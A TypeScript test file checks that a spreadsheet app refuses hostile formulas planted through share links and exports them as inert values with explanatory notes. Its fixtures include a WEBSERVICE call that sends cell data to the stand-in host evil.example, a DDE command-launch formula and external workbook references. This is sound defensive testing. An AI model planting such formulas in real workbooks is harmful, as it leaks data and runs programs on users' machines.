import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { evaluateModel } from '../../../src/lib/engine/engine';
import { decodeShareFragment, encodeShareFragment } from '../../../src/lib/io/share-link';
import { gridToXlsx } from '../../../src/lib/io/xlsx';
import { liveFormula } from '../../../src/lib/io/xlsx-formulas';
import { importXlsx } from '../../../src/lib/io/xlsx-import';
import { loadExcelJs } from '../../../src/lib/io/xlsx-load';
import { EXAMPLES } from '../../../src/lib/model/examples';
import type { Model } from '../../../src/lib/model/types';
import { analyzeModel } from '../helpers';

// Hostile formulas a link can plant are never written live into a workbook
// (issue 9, item 27).

const names = new Set(['aes', 'ae_cost']);

describe('liveFormula', () => {
  it('lets through the workbook’s own cells, assumption names and allow-listed functions', () => {
    for (const f of [
      'C3*0.4',
      'AEs*50',
      '$C$2+Funnel!D3',
      "SUM('Assumptions'!B2:B3)/ae_cost",
      'IF(ISBLANK(E2),1,E2)',
      'ROUND(1e+5*C2, 2)%',
      'MIN(C:C)',
      'IF(C2>1,"a ""b""","c")',
      'Loop!B2*TRUE',
    ]) {
      expect([f, liveFormula(f, names)]).toEqual([f, { live: true }]);
    }
  });

  it('refuses what could reach outside the workbook, saying why', () => {
    const cases: [string, string][] = [
      [
        'WEBSERVICE("https://evil.example/?"&C2)',
        'it calls WEBSERVICE, which is not on the list of functions exported live',
      ],
      [
        '_xlfn.WEBSERVICE("x")',
        'it calls _XLFN.WEBSERVICE, which is not on the list of functions exported live',
      ],
      [
        'HYPERLINK("http://x","Click")',
        'it calls HYPERLINK, which is not on the list of functions exported live',
      ],
      ["cmd|' /C calc'!A0", "it uses the name cmd, which is not one of the model's assumptions"],
      ["|' /C calc'!A0", 'it starts another program (a DDE link)'],
      ['[1]Sheet1!$A$1', 'it refers to another workbook'],
      ['Sheet1!A1', "it refers to the sheet Sheet1, which is not the model's"],
      ["'Other sheet'!A1", "it refers to 'Other sheet', which is not one of the model's sheets"],
      ['Secret*2', "it uses the name Secret, which is not one of the model's assumptions"],
      ['@C2', 'it holds “@”'],
      ['"never ends', 'a quoted text in it never ends'],
    ];
    for (const [f, reason] of cases) {
      expect([f, liveFormula(f, names)]).toEqual([f, { live: false, reason }]);
    }
  });
});

/** The example with hostile formulas planted, as they come out of a share link. */
function planted(): Model {
  const m = EXAMPLES[0]!.model();
  const stages = m.stages.map((s, i) =>
    i === 0
      ? { ...s, arrivals: '=WEBSERVICE("https://evil.example/?q="&C3)' }
      : i === 1
        ? { ...s, cost_per_item: "=cmd|' /C calc'!A0" }
        : i === 2
          ? { ...s, lag: '=[1]Sheet1!$A$1' }
          : s,
  );
  return decodeShareFragment(encodeShareFragment({ ...m, stages }));
}

describe('gridToXlsx with formulas planted by a link', () => {
  it('writes them as values with the formula in a note, and keeps the model’s own formulas live', async () => {
    const m = planted();
    const bytes = await gridToXlsx(m, analyzeModel(m).flow, evaluateModel(m));
    const parts = unzipSync(bytes);
    const sheets = Object.entries(parts)
      .filter(([name]) => name.startsWith('xl/worksheets/sheet'))
      .map(([, data]) => new TextDecoder().decode(data));
    const formulas = sheets.flatMap((x) => [...x.matchAll(/<f>([^<]*)<\/f>/g)].map((g) => g[1]));
    expect(formulas.length).toBeGreaterThan(10);
    expect(formulas.join('\n')).not.toMatch(/WEBSERVICE|\||\[1\]/);
    expect(formulas).toContain('AEs*50');

    const Excel = await loadExcelJs();
    const wb = new Excel.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const funnel = wb.getWorksheet('Funnel')!;
    expect(funnel.getCell('C2').value).toBe('');
    expect(funnel.getCell('C2').note).toBe(
      'Bottleneck formula, written as its value:\n=WEBSERVICE("https://evil.example/?q="&C3)\n(not a live formula in this workbook: it calls WEBSERVICE, which is not on the list of functions exported live.)',
    );
    expect(String(funnel.getCell('H3').note)).toMatch(
      /^Bottleneck formula, written as its value:\n=cmd\|/,
    );
    expect(String(funnel.getCell('F4').note)).toContain('it refers to another workbook');
  });

  it('reads the formulas back from their notes, so the model round-trips', async () => {
    const m = planted();
    const back = await importXlsx(await gridToXlsx(m, analyzeModel(m).flow, evaluateModel(m)));
    expect(back.model.stages.map((s) => [s.arrivals, s.cost_per_item, s.lag])).toEqual(
      m.stages.map((s) => [s.arrivals, s.cost_per_item, s.lag]),
    );
  });
});
